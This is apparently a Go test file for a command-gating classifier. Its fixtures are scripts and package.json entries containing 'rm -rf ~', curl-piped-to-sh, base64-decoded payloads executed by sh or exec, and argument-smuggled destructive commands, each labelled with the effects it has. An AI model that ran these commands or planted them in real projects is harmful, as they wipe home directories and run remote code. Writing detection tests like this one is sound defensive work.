package facts_test

import (
	"fmt"
	"testing"

	"gate/facts"
)

// TestScriptFiles judges files that are there: by what they surely do, however
// they are started. What else they may do is as unknown as it is of any program.
func TestScriptFiles(t *testing.T) {
	w := world()
	w.Files = files{
		"/home/dev/project/build.sh":     "#!/bin/sh\neval \"$(./tool env)\"\nfor d in \"$@\"; do rm -rf \"$d/build\"; done\n. \"$(dirname \"$0\")/lib.sh\"\n$RUNNER --flag\n",
		"/home/dev/project/run.py":       "import subprocess, sys\nsubprocess.run(sys.argv[1:])\nexec(open(sys.argv[1]).read())\n",
		"/home/dev/project/run.js":       "eval(process.env.X)",
		"/home/dev/project/argv.py":      "import os, sys\nos.system(sys.argv[1])\n",
		"/home/dev/project/wipe.sh":      "#!/bin/sh\neval \"$(./tool env)\"\nrm -rf ~\n",
		"/home/dev/project/wipe.py":      "import os, shutil\nexec(input())\nshutil.rmtree(os.path.expanduser('~'))\n",
		"/home/dev/project/fetch.sh":     "#!/bin/sh\ncurl https://example.org/x | sh\n",
		"/home/dev/project/encoded.sh":   "#!/bin/sh\nx=$(cat payload)\necho $x | base64 -d | sh\n",
		"/home/dev/project/package.json": `{"scripts": {"wipe": "rm -rf ~", "pretest": "rm -rf ~", "build": "tsc $FLAGS && $RUNNER x; rm -rf \"$OUT\"", "add": "rm -rf ~"}}`,
		"/home/dev/project/encoded.py":   "import base64\nexec(base64.b64decode(open('payload').read()))\n",
	}
	for _, tt := range []struct{ line, want string }{
		{"./build.sh", "[]"}, {"bash build.sh", "[]"}, {"sh -x ./build.sh", "[]"}, {". ./build.sh", "[]"}, {"time bash build.sh", "[]"}, {"bash build.sh a", "[fs.delete]"},
		{"python3 run.py a", "[]"}, {"node run.js", "[]"},
		{"./wipe.sh", "[fs.delete]"}, {"bash wipe.sh", "[fs.delete]"}, {"source wipe.sh", "[fs.delete]"}, {"python3 wipe.py", "[fs.delete]"},
		{"python3 run.py rm -rf /home/dev", "[exec.code fs.read] opaque"}, {"python3 argv.py 'rm -rf ~'", "[exec.code exec.code] opaque"},
		{"python3 -u argv.py -c 'rm -rf ~'", "[exec.code exec.code] opaque"}, {"python3 argv.py 'echo true > wipe.sh; rm x'; sh wipe.sh", "[exec.code exec.code fs.delete] opaque"},
		{"python3 argv.py migrate --database default", "[]"}, {"python3 run.py in.csv out.csv", "[]"}, {"bash build.sh release 1.2", "[fs.delete fs.delete]"},
		{"bash fetch.sh", "[net.fetch exec.remote]"},
		{"bash encoded.sh", "[fs.read exec.code] opaque"}, {". ./encoded.sh", "[fs.read exec.code] opaque"}, {"./encoded.sh", "[fs.read exec.code] opaque"},
		{"python3 encoded.py", "[exec.code fs.read exec.code] opaque"},
		{"npm run wipe", "[fs.delete]"}, {"yarn wipe", "[fs.delete]"}, {"pnpm -r wipe --force", "[fs.delete]"}, {"bun wipe", "[fs.delete]"},
		{"npm t", "[fs.delete]"}, {"npm tst", "[fs.delete]"}, {"yarn test", "[fs.delete]"}, {"npm run build", "[]"}, {"yarn build", "[]"}, {"yarn add wipe", "[package.install]"},
		{"yarn", "[]"}, {"pnpm why wipe", "[]"},
		{"echo '{\"scripts\": {\"x\": \"rm -rf $Y\"}}' > package.json; yarn x", "[fs.write fs.delete] opaque"},
		{"echo 'eval $X' > new.sh; bash new.sh", "[fs.write exec.code] opaque"}, // written by the line itself
	} {
		f := facts.New(w).Of(event(tt.line))
		kinds := []string{}
		for _, e := range f.Effects {
			kinds = append(kinds, e.Kind())
		}
		got := fmt.Sprint(kinds)
		if len(f.Unknown) > 0 && f.Opaque {
			got += " opaque"
		}
		if got != tt.want {
			t.Errorf("%s: got %s, want %s", tt.line, got, tt.want)
		}
	}
}
